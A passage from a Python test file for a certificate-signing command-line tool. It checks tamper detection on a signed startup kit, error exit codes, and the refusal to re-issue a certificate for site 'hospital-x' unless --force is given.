        f"error: {kit / 'startup' / 'start.sh'}: modified since the kit was signed "
        "(SHA-256 differs from MANIFEST.json)\n"
    )
    assert main(["cert", "sign", str(tmp_path / "missing.csr"), "-w", str(ws)]) == 4
    capsys.readouterr()
    # The same CSR again: refused in one line, nothing issued; --force re-issues.
    issued = (ws / "state" / "issued.json").read_bytes()
    assert main(["cert", "sign", str(site / "hospital-x.csr"), "-w", str(ws)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: site 'hospital-x' already has a live certificate (serial ")
    assert err.endswith("pass --force to issue another\n") and err.count("\n") == 1
    assert (ws / "state" / "issued.json").read_bytes() == issued
    assert main(["cert", "sign", str(site / "hospital-x.csr"), "-w", str(ws), "--force"]) == 0
    names = [
        c["name"] for c in json.loads((ws / "state" / "issued.json").read_text())["certificates"]
    ]
    assert names.count("hospital-x") == 2
